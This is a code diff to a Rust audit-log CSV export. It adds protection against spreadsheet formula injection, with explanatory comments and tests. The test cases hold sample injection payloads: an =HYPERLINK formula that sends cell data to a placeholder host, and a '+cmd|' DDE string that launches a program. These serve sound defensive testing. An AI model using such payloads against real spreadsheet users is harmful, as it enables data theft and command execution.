@@ -106,16 +106,19 @@ const CSV_HEADER: [&str; 13] = [
 ];
 
 fn csv_row(e: &AuditDto) -> [String; 13] {
-    let optional = |v: &Option<String>| v.clone().unwrap_or_default();
+    let text = |v: &str| defuse_formula(v);
+    let optional = |v: &Option<String>| v.as_deref().map(defuse_formula).unwrap_or_default();
     [
-        e.service.clone(),
-        e.org_id.clone(),
+        text(&e.service),
+        text(&e.org_id),
+        // A number we format: it cannot carry a formula, and stays a number for
+        // spreadsheets (a leading `'` would make it text).
         e.timestamp.to_string(),
-        e.audit.clone(),
-        e.audit_type.to_string(),
-        e.entity.clone(),
-        e.entity_id.clone(),
-        e.user_id.clone(),
+        text(&e.audit),
+        text(e.audit_type),
+        text(&e.entity),
+        text(&e.entity_id),
+        text(&e.user_id),
         optional(&e.parent_entity),
         optional(&e.parent_entity_id),
         optional(&e.entity_attribute),
@@ -124,9 +127,25 @@ fn csv_row(e: &AuditDto) -> [String; 13] {
     ]
 }
 
-/// RFC 4180: a field with a comma, quote or line break is quoted, quotes doubled.
+/// A text cell as a spreadsheet must read it. Names, descriptions, emails and secret names
+/// are chosen by API clients, and Excel, LibreOffice and Google Sheets run a cell that
+/// starts with `=`, `+`, `-` or `@` (or with a tab or carriage return before one) as a
+/// formula: `=HYPERLINK(...)` sends data elsewhere, `=cmd|...` starts programs. As OWASP's
+/// CSV injection guidance says, such a cell gets a leading `'`, which spreadsheets show
+/// as text and do not evaluate. Other cells are left exactly as they are.
+fn defuse_formula(field: &str) -> String {
+    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{field}")
+    } else {
+        field.to_string()
+    }
+}
+
+/// RFC 4180: a field with a comma, quote or line break is quoted, quotes doubled. So is
+/// one with a semicolon, which spreadsheets of many locales read as the separator: a
+/// cell could otherwise split into one that starts with a formula.
 fn csv_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
+    if field.contains([',', '"', '\r', '\n', ';']) {
         out.push('"');
         out.push_str(&field.replace('"', "\"\""));
         out.push('"');
@@ -184,7 +203,9 @@ async fn activity_json(
 
 /// Get the organization's activity as CSV.
 ///
-/// RFC 4180, with a header row of the `AuditDto` field names.
+/// RFC 4180, with a header row of the `AuditDto` field names. A text cell that a
+/// spreadsheet would run as a formula (one starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return) starts with a `'`; the JSON activity shows the values as they are.
 #[utoipa::path(
     get,
     path = "/activity/csv",
@@ -237,5 +258,58 @@ mod tests {
             lines.next().unwrap(),
             "console,o,1700000000123,\"Created cluster \"\"a, b\"\"\nnext\",c,cluster,c1,u,,,roles,\"admin,developer\","
         );
+    }
+
+    fn event_with(value_to: &str, timestamp: i64) -> AuditDto {
+        AuditDto {
+            service: "console".into(),
+            org_id: "o".into(),
+            timestamp,
+            audit: "Updated cluster".into(),
+            audit_type: "u",
+            entity: "cluster".into(),
+            entity_id: "c1".into(),
+            user_id: "u".into(),
+            parent_entity: None,
+            parent_entity_id: None,
+            entity_attribute: Some("name".into()),
+            entity_attribute_value_from: Some("plain -dash= @at".into()),
+            entity_attribute_value_to: Some(value_to.into()),
+        }
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_get_a_leading_quote() {
+        let cases = [
+            (
+                r#"=HYPERLINK("http://x/?"&A1,"c")"#,
+                r#""'=HYPERLINK(""http://x/?""&A1,""c"")""#,
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1)", "'@SUM(1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+            ("a;=1", "\"a;=1\""),
+            ("'=1", "'=1"),
+            ("x=1", "x=1"),
+        ];
+        for (value, cell) in cases {
+            let csv = to_csv(&[event_with(value, 5)]);
+            let row = csv.split("\r\n").nth(1).unwrap();
+            assert_eq!(
+                row,
+                format!(
+                    "console,o,5,Updated cluster,u,cluster,c1,u,,,name,plain -dash= @at,{cell}"
+                ),
+                "{value:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_negative_timestamp_stays_a_number() {
+        let csv = to_csv(&[event_with("x", -5)]);
+        assert!(csv.contains(",-5,Updated cluster,"), "{csv}");
     }
 }
